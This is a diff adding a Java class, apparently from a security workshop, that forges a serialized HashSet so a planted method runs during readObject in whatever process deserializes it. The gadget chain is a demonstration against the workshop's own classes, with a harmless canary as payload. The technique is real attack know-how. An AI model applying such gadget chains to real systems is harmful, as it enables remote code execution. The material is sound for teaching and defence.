@@ -1,0 +1,34 @@
+package workshop.step01;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.ObjectOutputStream;
+import java.util.HashSet;
+import workshop.step01.library.Memo;
+
+/**
+ * Your hat is black now. You can reach the broker, and you know what is on the worker's class path.
+ */
+public final class Attack {
+
+    private Attack() {}
+
+    /**
+     * A native stream that makes {@link Canary#sing} run in whatever process reads it: during
+     * {@code readObject}, before any cast can look at the result. It contains only classes that the
+     * worker has: the JDK's, and those of {@code workshop.step01.library}.
+     */
+    public static byte[] forge() throws IOException {
+        var memo = new Memo(() -> "harmless while we build");
+        var trap = new HashSet<Object>();
+        // This calls hashCode(). HashSet.readObject will call it again.
+        trap.add(memo);
+        memo.setRecipe(Canary::sing);
+
+        var bytes = new ByteArrayOutputStream();
+        try (var out = new ObjectOutputStream(bytes)) {
+            out.writeObject(trap);
+        }
+        return bytes.toByteArray();
+    }
+}
